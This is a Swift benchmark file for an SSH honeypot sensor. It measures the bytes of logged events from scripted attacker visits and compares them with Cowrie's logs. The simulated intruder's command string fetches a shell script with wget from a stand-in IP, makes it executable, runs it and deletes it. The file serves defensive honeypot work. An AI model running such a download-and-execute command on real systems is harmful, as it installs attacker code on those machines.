import Foundation
import SSHPeer
import ThreatModel

/// What is written and sent of one visit.
enum EventSizeBenchmark: Benchmark {
    static let name = "event-size"
    static let summary = "bytes of a scripted SSH visit's events, plain and in compressed batches; against Cowrie's log"

    private static let visits = 500
    /// As a script does that has guessed a password.
    private static let command =
        "uname -a; cat /proc/cpuinfo | grep name | wc -l; cd /tmp || cd /var/run; wget http://198.51.100.7/x.sh; "
        + "chmod 777 x.sh; ./x.sh; rm -rf x.sh"

    static func run(_ bench: Bench) async throws -> [Row] {
        var relay: CountingRelay?
        let sensor = try PlayedSensor(bench, [.ssh]) { server in
            let between = try CountingRelay(to: server.port)
            relay = between
            return between.port
        }
        _ = try visits(to: sensor.port(of: .ssh)).run(visits).successful()
        try sensor.process.waitUntilIdle()
        sleep(2)
        guard let relay else { throw BenchmarkFailure("no relay") }
        let sent = try SentEvents(bench, through: relay)
        let cowrie = try Cowrie(bench)
        let their = try cowrie.map { cowrie in
            _ = try visits(to: cowrie.ssh).run(visits / 5).successful()
            try cowrie.process.waitUntilIdle()
            return Double(try Data(contentsOf: URL(filePath: cowrie.events)).count) / Double(visits / 5)
        }
        return [
            Row(
                "event-size.plain", ours: Double(sent.lines.count) / Double(visits), unit: "B", .lessIsBetter,
                peer: Cowrie.peer(their), goal: .init(limit: 1_500)),
            Row(
                "event-size.sent", ours: Double(sent.packedBytes) / Double(visits), unit: "B",
                .lessIsBetter, goal: .init(limit: 400)),
            Row(
                "event-size.events", ours: Double(sent.lines.count { $0 == UInt8(ascii: "\n") }) / Double(visits),
                unit: "events",
                .lessIsBetter),
        ]
    }

    private static func visits(to port: UInt16) -> Visits {
        Visits(atOnce: 8) { source in
            let visitor = try SSHVisitor(to: port, from: source)
            try visitor.logIn(password: "admin")
            _ = try visitor.run(command)
            return 0
        }
    }
}
